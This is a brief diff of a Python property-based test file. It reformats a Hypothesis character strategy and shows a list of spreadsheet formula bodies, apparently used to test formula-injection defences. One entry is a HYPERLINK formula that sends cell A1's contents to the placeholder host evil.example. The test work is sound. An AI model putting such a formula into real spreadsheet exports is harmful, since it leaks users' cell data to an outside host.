@@ -80,7 +80,10 @@ def lookalike_starts() -> tuple[str, ...]:
 
 
 # PostgreSQL text holds neither NUL nor lone surrogates; everything else may be typed.
-any_character = st.characters(exclude_categories=("Cs",), exclude_characters="\x00")
+any_character = st.characters(
+    exclude_categories=("Cs",),  # type: ignore[arg-type]  # a category name, as typed
+    exclude_characters="\x00",
+)
 FORMULA_BODIES = [
     'HYPERLINK("http://evil.example/?"&A1,"詳細")',
     "1+1",
